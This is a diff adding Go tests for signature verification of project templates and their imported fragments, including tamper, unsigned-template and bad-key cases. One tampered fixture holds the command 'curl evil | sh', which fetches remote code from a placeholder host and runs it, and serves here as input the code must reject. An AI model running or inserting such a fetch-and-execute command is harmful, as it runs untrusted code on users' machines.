@@ -0,0 +1,164 @@
+package template
+
+import (
+	"crypto/ed25519"
+	"encoding/base64"
+	"errors"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func TestInstallVerifiesImportedFragments(t *testing.T) {
+	const config = "name: signed\nimports: [shared/common.yaml]\n"
+	const fragment = "postGenerate:\n  - command: echo ok\n"
+
+	tests := []struct {
+		name    string
+		signed  string
+		files   map[string]string
+		wantErr error
+	}{
+		{
+			name:   "config and fragment are signed",
+			signed: config + fragment,
+			files:  map[string]string{"shared/common.yaml": fragment},
+		},
+		{
+			name:    "fragment tampered after signing",
+			signed:  config + fragment,
+			files:   map[string]string{"shared/common.yaml": "postGenerate:\n  - command: curl evil | sh\n"},
+			wantErr: ErrSignatureInvalid,
+		},
+		{
+			name:    "signature covers only the config",
+			signed:  config,
+			files:   map[string]string{"shared/common.yaml": fragment},
+			wantErr: ErrSignatureInvalid,
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			public, private, err := ed25519.GenerateKey(nil)
+			if err != nil {
+				t.Fatal(err)
+			}
+			dir := t.TempDir()
+			keyPath := filepath.Join(dir, "key.pub")
+			if err := os.WriteFile(keyPath, []byte(base64.StdEncoding.EncodeToString(public)), 0o644); err != nil {
+				t.Fatal(err)
+			}
+
+			source := filepath.Join(dir, "src")
+			files := map[string]string{
+				"template.yaml":     config,
+				"template.yaml.sig": base64.StdEncoding.EncodeToString(ed25519.Sign(private, []byte(tt.signed))),
+			}
+			for name, content := range tt.files {
+				files[name] = content
+			}
+			writeFiles(t, source, files)
+
+			manager := newTestManager(t)
+			manager.VerifyKey = keyPath
+			_, err = manager.InstallTemplate(source)
+			if tt.wantErr == nil && err != nil {
+				t.Fatalf("InstallTemplate() error = %v", err)
+			}
+			if tt.wantErr != nil && !errors.Is(err, tt.wantErr) {
+				t.Fatalf("InstallTemplate() error = %v, want %v", err, tt.wantErr)
+			}
+		})
+	}
+}
+
+func TestVerifyTemplateSignature(t *testing.T) {
+	const config = "name: signed\n"
+	public, private, err := ed25519.GenerateKey(nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	otherPublic, _, err := ed25519.GenerateKey(nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	signature := ed25519.Sign(private, []byte(config))
+	encode := base64.StdEncoding.EncodeToString
+
+	tests := []struct {
+		name string
+		// key 與 sig 為寫入檔案的內容；nil 表示不建立該檔案
+		key, sig []byte
+		wantErr  error
+		wantText string
+	}{
+		{name: "base64 key and signature", key: []byte(encode(public) + "\n"), sig: []byte(encode(signature))},
+		{name: "raw key and signature", key: public, sig: signature},
+		{name: "unsigned template", key: public, wantErr: ErrSignatureInvalid, wantText: "template is not signed"},
+		{name: "signed with another key", key: otherPublic, sig: signature, wantErr: ErrSignatureInvalid, wantText: "does not match"},
+		{name: "missing key", sig: signature, wantText: "failed to read verify key"},
+		{name: "malformed key", key: []byte("not a key"), sig: signature, wantText: "invalid verify key"},
+		{name: "truncated signature", key: public, sig: []byte(encode(signature[:10])), wantText: "invalid signature"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			dir := t.TempDir()
+			keyPath := filepath.Join(dir, "key.pub")
+			sigPath := filepath.Join(dir, "template.yaml"+signatureSuffix)
+			if tt.key != nil {
+				if err := os.WriteFile(keyPath, tt.key, 0o644); err != nil {
+					t.Fatal(err)
+				}
+			}
+			if tt.sig != nil {
+				if err := os.WriteFile(sigPath, tt.sig, 0o644); err != nil {
+					t.Fatal(err)
+				}
+			}
+
+			err := verifyTemplateSignature([]byte(config), sigPath, keyPath)
+			if tt.wantErr == nil && tt.wantText == "" {
+				if err != nil {
+					t.Fatalf("verifyTemplateSignature() error = %v", err)
+				}
+				return
+			}
+			if tt.wantErr != nil && !errors.Is(err, tt.wantErr) {
+				t.Fatalf("verifyTemplateSignature() error = %v, want %v", err, tt.wantErr)
+			}
+			if err == nil || !strings.Contains(err.Error(), tt.wantText) {
+				t.Fatalf("verifyTemplateSignature() error = %v, want %q", err, tt.wantText)
+			}
+		})
+	}
+}
+
+func TestInstallRejectsUnsignedTemplate(t *testing.T) {
+	public, _, err := ed25519.GenerateKey(nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	dir := t.TempDir()
+	keyPath := filepath.Join(dir, "key.pub")
+	if err := os.WriteFile(keyPath, public, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	source := filepath.Join(dir, "src")
+	writeFiles(t, source, map[string]string{"template.yaml": "name: unsigned\n", "main.go": "package main\n"})
+
+	manager := newTestManager(t)
+	manager.VerifyKey = keyPath
+	if _, err := manager.InstallTemplate(source); !errors.Is(err, ErrSignatureInvalid) {
+		t.Fatalf("InstallTemplate() error = %v, want ErrSignatureInvalid", err)
+	}
+	templatesDir, err := UserTemplatesDir()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := os.Stat(filepath.Join(templatesDir, "unsigned")); !os.IsNotExist(err) {
+		t.Errorf("unsigned template was installed: %v", err)
+	}
+}